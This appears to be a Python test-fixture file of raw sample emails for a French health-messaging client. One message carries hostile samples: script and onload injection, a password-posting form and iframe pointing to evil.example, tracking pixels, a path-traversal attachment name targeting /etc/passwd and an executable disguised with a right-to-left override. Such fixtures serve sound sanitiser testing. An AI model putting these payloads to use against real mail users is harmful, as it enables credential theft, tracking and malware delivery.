"""Well-formed sample messages written by hand (as other clients produce them)."""

from __future__ import annotations

import base64

PDF = b"%PDF-1.4\n" + bytes(range(256)) * 4

THREAD_REPLY = (
    b"Return-Path: <paul.durand@infirmier.mssante.fr>\r\n"
    b"Received: from mx.operateur.example by imap.operateur.example;\r\n"
    b"\tThu, 12 Nov 2026 14:03:05 +0100\r\n"
    b"From: =?utf-8?q?Paul_Durand_=28IDE=29?= <paul.durand@infirmier.mssante.fr>\r\n"
    b"Reply-To: Cabinet infirmier <cabinet@infirmier.mssante.fr>\r\n"
    b'To: "Martin, Anne" <anne.martin@medecin.mssante.fr>,\r\n'
    b" =?iso-8859-1?q?Service_de_dermatologie?= <dermato@chu-exemple.mssante.fr>\r\n"
    b"Cc: secretariat@medecin.mssante.fr, paul.durand@infirmier.mssante.fr\r\n"
    b"Subject: =?utf-8?b?UmU6IFhETS8xLjAvRERNK1N1aXZpIGRlIHBsYWllIERVUE9O?=\r\n"
    b" =?utf-8?b?VCBIw6lsw6huZSAwMS8wMi8xOTUw?=\r\n"
    b"Date: Thu, 12 Nov 2026 14:03:00 +0100\r\n"
    b"Message-ID: <reply-2@infirmier.mssante.fr>\r\n"
    b"In-Reply-To: <root-1@medecin.mssante.fr>\r\n"
    b"References: <root-1@medecin.mssante.fr>\r\n"
    b"X-MSS-NIL: NIL-AUTRE-0042\r\n"
    b"X-MSS-INS: O\r\n"
    b"X-MSS-CODECDA: 11490-0\r\n"
    b"Disposition-Notification-To: Paul Durand <paul.durand@infirmier.mssante.fr>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="mixed-1"\r\n'
    b"\r\n"
    b"This is a multi-part message in MIME format.\r\n"
    b"--mixed-1\r\n"
    b'Content-Type: multipart/alternative; boundary="alt-1"\r\n'
    b"\r\n"
    b"--alt-1\r\n"
    b"Content-Type: text/plain; charset=iso-8859-15\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"Bonjour Docteur,\r\n"
    b"La plaie =E9volue bien, photo jointe.\r\n"
    b"> Pouvez-vous m'envoyer une photo ?\r\n"
    b"--alt-1\r\n"
    b'Content-Type: multipart/related; boundary="rel-1"\r\n'
    b"\r\n"
    b"--rel-1\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n"
    b"\r\n"
    b'<html><head><style>p{background:url("https://tracker.example/a.png")}</style></head>'
    b'<body onload="steal()"><p>Bonjour Docteur,</p><p>La plaie \xc3\xa9volue bien.</p>'
    b'<img src="cid:photo-1@infirmier"><img src="https://tracker.example/pixel.gif">'
    b'<img src="//tracker.example/p2.gif"><img src="cid:not-attached@x">'
    b'<a href="https://annuaire.sante.fr">annuaire</a><a href="javascript:alert(1)">x</a>'
    b'<script>alert("x")</script><iframe src="https://evil.example"></iframe>'
    b'<form action="https://evil.example"><input name="pw"></form>'
    b'<object data="https://evil.example/x.swf"></object>'
    b'<div style="background-image:url(https://tracker.example/b.png)">style</div>'
    b'<table background="https://tracker.example/t.png"><tr><td>cellule</td></tr></table>'
    b'<link rel="stylesheet" href="https://tracker.example/s.css"></body></html>\r\n'
    b"--rel-1\r\n"
    b"Content-Type: image/png\r\n"
    b"Content-ID: <photo-1@infirmier>\r\n"
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n" + base64.encodebytes(b"\x89PNG fake image").replace(b"\n", b"\r\n") + b"--rel-1--\r\n"
    b"\r\n"
    b"--alt-1--\r\n"
    b"\r\n"
    b"--mixed-1\r\n"
    b"Content-Type: application/pdf;\r\n"
    b" name*0*=utf-8''compte%20rendu%20;\r\n"
    b" name*1*=r%C3%A9sultats.pdf\r\n"
    b"Content-Disposition: attachment;\r\n"
    b" filename*0*=utf-8''compte%20rendu%20;\r\n"
    b" filename*1*=r%C3%A9sultats.pdf\r\n"
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n" + base64.encodebytes(PDF).replace(b"\n", b"\r\n") + b"--mixed-1\r\n"
    b'Content-Type: application/octet-stream; name="=?utf-8?q?..=2F..=2Fetc=2Fpasswd?="\r\n'
    b"Content-Disposition: attachment\r\n"
    b"\r\n"
    b"root:x:0:0\r\n"
    b"--mixed-1\r\n"
    b"Content-Type: application/octet-stream\r\n"
    b'Content-Disposition: attachment; filename="facture\xe2\x80\xaefdp.exe"\r\n'
    b"\r\n"
    b"MZ\r\n"
    b"--mixed-1--\r\n"
)

HTML_ONLY = (
    b"From: Secretariat <secretariat@chu-exemple.mssante.fr>\r\n"
    b"To: anne.martin@medecin.mssante.fr\r\n"
    b"Subject: Convocation\r\n"
    b"Date: Fri, 13 Nov 2026 09:00:00 -0000\r\n"
    b"Message-ID: <html-only@chu-exemple.mssante.fr>\r\n"
    b"Content-Type: text/html; charset=windows-1252\r\n"
    b"\r\n"
    b"<html><head><title>titre cach\xe9</title><script>var x=1;</script></head><body>"
    b"<p>Rendez-vous le <b>20&nbsp;novembre</b>.</p><div>Pr\xe9voir l'ordonnance.</div>"
    b"</body></html>\r\n"
)

SIGNED = (
    b"From: Dr Anne Martin <anne.martin@medecin.mssante.fr>\r\n"
    b"To: paul.durand@infirmier.mssante.fr\r\n"
    b"Subject: Sign\xc3\xa9\r\n"
    b"Message-ID: <signed@medecin.mssante.fr>\r\n"
    b'Content-Type: multipart/signed; protocol="application/pkcs7-signature";\r\n'
    b' micalg=sha-256; boundary="sig"\r\n'
    b"\r\n"
    b"--sig\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"Texte sign\xc3\xa9.\r\n"
    b"--sig\r\n"
    b'Content-Type: application/pkcs7-signature; name="smime.p7s"\r\n'
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n"
    b"MIAGCSqGSIb3DQEHAqCAMIACAQEx\r\n"
    b"--sig--\r\n"
)
